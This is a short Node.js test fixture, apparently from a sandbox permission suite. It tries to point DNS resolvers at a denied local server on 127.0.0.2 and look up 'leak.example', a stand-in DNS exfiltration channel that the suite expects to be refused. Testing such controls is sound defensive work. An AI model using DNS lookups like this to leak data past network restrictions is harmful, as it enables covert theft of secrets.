// A name server of the program's choice is told the secret as a name.
// denied: network:connect 127.0.0.2
const lab = JSON.parse(process.argv[2]);
const dns = require('node:dns');
const { Resolver } = dns;
const server = `127.0.0.2:${lab.servers.denied.dns}`;
const resolver = new Resolver();
try {
  resolver.setServers([server]);
} catch {
  // Refused.
}
try {
  dns.setServers([server]);
} catch {
  // Refused.
}
resolver.resolve4('leak.example', () => process.exit(0));
dns.resolve('leak.example', 'TXT', () => {});
setTimeout(() => process.exit(0), 400);
